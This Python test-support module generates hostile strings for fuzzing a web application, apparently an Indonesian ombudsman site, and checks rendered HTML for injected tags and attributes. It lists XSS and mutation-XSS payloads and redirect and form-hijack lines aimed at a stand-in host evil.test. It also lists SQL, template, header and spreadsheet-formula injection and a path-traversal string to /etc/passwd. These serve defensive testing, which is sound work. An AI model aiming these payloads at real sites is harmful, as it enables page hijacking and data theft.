"""Texts that attack a page, and what a page must not hold after it has shown them."""

from collections.abc import Iterator
from random import Random
from typing import Final

from selectolax.lexbor import LexborHTMLParser, LexborNode

ALARM: Final = "globalThis.hacked=1"
EVIL: Final = "evil.test"
PAYLOADS: Final = (
    f"<script>{ALARM}</script>",
    f'"><img src=x onerror={ALARM}>',
    f"'><svg/onload={ALARM}>",
    f'" autofocus onfocus={ALARM} x="',
    f"' onmouseover={ALARM} '",
    f"` onclick={ALARM} `",
    f"</textarea><script>{ALARM}</script>",
    f"</title><script>{ALARM}</script>",
    f"</script><script>{ALARM}</script>",
    f"<!--<img src=--><img src=x onerror={ALARM}//>",
    f"--><script>{ALARM}</script>",
    f"]]><script>{ALARM}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={ALARM}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ALARM}&gt;'>",
    f"<svg><animate onbegin={ALARM} attributeName=x dur=1s>",
    f"<details open ontoggle={ALARM}>",
    f"<iframe srcdoc='<script>parent.{ALARM}</script>'></iframe>",
    f"<object data='data:text/html,<script>{ALARM}</script>'></object>",
    f"<base href=//{EVIL}/><a href=x>x</a>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<form action=//{EVIL}><button>Kirim",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "<style>*{display:none!important}</style>",
    f"<div hx-get=//{EVIL} hx-trigger=load>x</div>",
    f"<div hx-on:htmx:load={ALARM}>x</div>",
    f"javascript:{ALARM}",
    f"JaVaScRiPt:{ALARM}//%0a",
    f"data:text/html,<script>{ALARM}</script>",
    f"https://{EVIL}/\"onmouseover='{ALARM}'",
    f"//{EVIL}",
    "<plaintext>",
    "<template><p>",
    "</main></body></html>",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}",
    "${7*7}#{7*7}%(x)s{0.__class__}{num}",
    "&lt;script&gt;&#60;img src=x onerror=1&#62;&amp;amp;",
    f"\\u003cscript\\u003e{ALARM}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{ALARM}+ADw-/script+AD4-",
    "'; drop table events; --",
    '" or 1=1 --',
    "%00%0d%0aSet-Cookie:x=1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "[link](javascript:alert(1))",
    'NEAR(a b) AND NOT * " ^',
)
"""XSS in every place of HTML, templates, SQL, full-text search, spreadsheets, paths, headers."""
ODD: Final = (
    "\u202e\u0645\u0631\u062d\u0628\u0627\u202c",
    "\u2067\u05e9\u05dc\u05d5\u05dd",  # an isolate that is not closed
    "Z\u0361\u0336\u0489a\u0335\u0338" + "\u0301\u0327\u0330\u0489" * 40,
    "\u200b\u200d\ufeff\u00ad",
    "\u2028\u2029\x0b\x0c\x1f",
    "\uff1cscript\uff1e",
    "\u017fcr\u0131pt",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 5,
    "W" * 300,
    "\u1160\u3164\u2800" * 20,
    "\U000e0041\U000e0042",
    "\ufdfa" * 30,
)
"""Right-to-left, combining, invisible and very wide characters."""
NUMBERS: Final = (
    "0",
    "-1",
    "+1",
    "1_0",
    "1e999",
    "nan",
    "-inf",
    "\u00b2",
    "\u0663",
    "9" * 19,
    "9" * 400,
    "9" * 5000,
    "0001-01-01",
    "9999-12-31",
    "0001-01-01T00:00:00+14:00",
    "00000000-0000-0000-0000-000000000000",
)
"""Numbers, dates and ids that are none, or that are too large for what reads them."""
SEPARATORS: Final = ("", " ", "\n", "\t", "\r\n", '"', "'", ">", "--")
LONG: Final = 10_000


def hostile(random: Random, most: int = 500) -> Iterator[str]:
    """Texts without end, of at most `most` characters; one in fifty is as long as that."""
    while True:
        parts = [random.choice((*PAYLOADS, *ODD, "Jalan rusak")) for _ in range(random.randint(1, 3))]
        text = random.choice(SEPARATORS).join(parts)
        if random.random() < 0.1:
            text = text.swapcase()
        if random.random() < 0.1:
            text = random.choice(NUMBERS)
        yield (text * (most // len(text) + 1) if random.random() < 0.02 else text)[:most]


FORBIDDEN: Final = frozenset(
    ["iframe", "frame", "object", "embed", "applet", "base", "style", "plaintext", "template", "math", "animate",
     "foreignobject", "noembed", "xmp", "marquee"]
)  # fmt: skip
TEMPLATES: Final = ("satu-draf",)
"""Those of our pages, which scripts fill in."""
ADDRESSES: Final = ("href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset", "manifest")
ASKING: Final = ("hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch")


def faults(html: str) -> list[str]:
    """What a page holds that only an attack can have put there."""
    return [fault for node in LexborHTMLParser(html).root.traverse() for fault in _faults(node)]


def _faults(node: LexborNode) -> Iterator[str]:
    tag, given = str(node.tag).lower(), {name.lower(): value or "" for name, value in node.attributes.items()}
    if tag == "template" and given.get("id") in TEMPLATES:
        return
    if tag in FORBIDDEN or (tag == "meta" and "http-equiv" in given):
        yield f"<{tag}>"
    if tag == "script" and (not given.get("src", "").startswith("/") or node.text().strip()):
        yield f"a script of its own: {node.html[:80]}"
    for name, value in given.items():
        if name.startswith(("on", "hx-on", "data-hx-on")) or name in ("style", "srcdoc"):
            yield f"<{tag} {name}>"
        elif (name in ADDRESSES or name in ASKING) and not _is_ours(value):
            yield f"<{tag} {name}={value[:60]}>"


def _is_ours(address: str) -> bool:
    if address.startswith("//"):
        return False
    return address == "" or address.startswith(("/", "#", "?", "https://www.ombudsman.go.id", "mailto:", "tel:"))
